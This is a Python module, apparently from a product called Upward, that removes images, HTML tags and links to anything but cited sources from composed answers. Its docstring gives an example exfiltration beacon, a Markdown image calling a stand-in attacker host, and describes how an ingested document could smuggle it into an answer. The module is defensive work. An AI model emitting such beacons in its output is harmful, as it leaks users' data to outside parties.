"""Links in an answer may only point at the cited sources' own URLs.

A document a workspace ingests can carry a Markdown image or link to an outside address (an
exfiltration beacon: `![x](https://evil.example/?q=…)`). The composed answer quotes source
sentences, so such a link could ride along. Before text leaves Upward, every image is dropped,
every link not to a cited source's own http(s) URL keeps only its words, and a bare foreign URL is
removed.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_IMAGE_RE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK_RE = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_BARE_URL_RE = re.compile(r"(?:https?|ftp|data|javascript|file):[^\s<>()\[\]]+", re.IGNORECASE)
_HTML_RE = re.compile(r"<\s*/?\s*(?:img|a|script|iframe|object|embed|link|meta|style)\b[^>]*>", re.IGNORECASE)


def safe_url(url: str | None) -> str | None:
    """A citation URL as it may be shown: http or https only, nothing else."""
    if url and re.match(r"^https?://[^\s<>\"']+$", url.strip(), re.IGNORECASE):
        return url.strip()
    return None


def strip_foreign_links(text: str, allowed: Iterable[str | None]) -> str:
    """`text` with images removed and links kept only to `allowed` (the sources' own URLs)."""
    keep = {u for u in (safe_url(a) for a in allowed) if u}
    text = _HTML_RE.sub("", text)
    text = _IMAGE_RE.sub(lambda m: m.group(1).strip(), text)
    text = _LINK_RE.sub(lambda m: m.group(0) if safe_url(m.group(2)) in keep else m.group(1), text)

    def bare(match: re.Match[str]) -> str:
        url = match.group(0).rstrip(".,;:")
        tail = match.group(0)[len(url):]
        return (url if url in keep else "[link removed]") + tail

    parts = re.split(r"(\[[^\]]+\]\([^)]*\))", text)  # leave the kept Markdown links alone
    return "".join(p if p.startswith("[") and "](" in p else _BARE_URL_RE.sub(bare, p) for p in parts)
